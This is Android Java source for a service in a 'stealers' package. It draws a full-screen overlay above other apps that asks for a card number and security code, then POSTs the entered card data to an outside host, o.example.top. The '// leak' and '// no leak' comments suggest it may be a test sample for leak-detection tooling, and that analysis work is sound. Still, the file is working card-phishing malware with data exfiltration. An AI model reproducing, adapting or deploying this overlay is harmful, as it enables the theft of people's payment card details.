package stealers;

import android.app.Service;
import android.content.Intent;
import android.graphics.PixelFormat;
import android.os.*;
import android.view.*;
import android.widget.*;

import com.google.gson.Gson;

import java.io.*;
import java.net.*;

/** A window above another app's, made in code, that asks for a card. */
public class Overlay extends Service implements View.OnClickListener {
    static class Card {
        String number, code, bank;
    }

    private EditText number, code;
    private LinearLayout box;

    public IBinder onBind(Intent i) {
        return null;
    }

    @Override
    public void onCreate() {
        WindowManager w = (WindowManager) getSystemService(WINDOW_SERVICE);
        box = new LinearLayout(this);
        number = new EditText(this);
        code = new EditText(this);
        Button ok = new Button(this);
        ok.setText("OK");
        ok.setOnClickListener(this);
        box.addView(number);
        box.addView(code);
        box.addView(ok);
        w.addView(box, new WindowManager.LayoutParams(-1, -1, 2010, 8, PixelFormat.TRANSLUCENT));
    }

    @Override
    public void onClick(View v) {
        Card c = new Card();
        c.number = number.getText().toString().replaceAll(" ", "");
        c.code = code.getText().toString();
        c.bank = "some";
        new Send().execute(new Gson().toJson(c));
        new Done().execute("{\"bank\":\"" + c.bank + "\"}");
    }

    static class Send extends AsyncTask<String, Integer, String> {
        protected String doInBackground(String... a) {
            try {
                HttpURLConnection h = (HttpURLConnection) new URL("http://o.example.top/card").openConnection();
                h.setRequestMethod("POST");
                h.setDoOutput(true);
                OutputStream o = h.getOutputStream();
                o.write(a[0].getBytes()); // leak
                o.close();
                return h.getResponseMessage();
            } catch (IOException e) {
                return e.getMessage();
            }
        }
    }

    static class Done extends AsyncTask<String, Integer, String> {
        protected String doInBackground(String... a) {
            try {
                HttpURLConnection h = (HttpURLConnection) new URL("http://o.example.top/done").openConnection();
                h.setDoOutput(true);
                OutputStream o = h.getOutputStream();
                o.write(a[0].getBytes()); // no leak
                o.close();
                return h.getResponseMessage();
            } catch (IOException e) {
                return e.getMessage();
            }
        }
    }
}
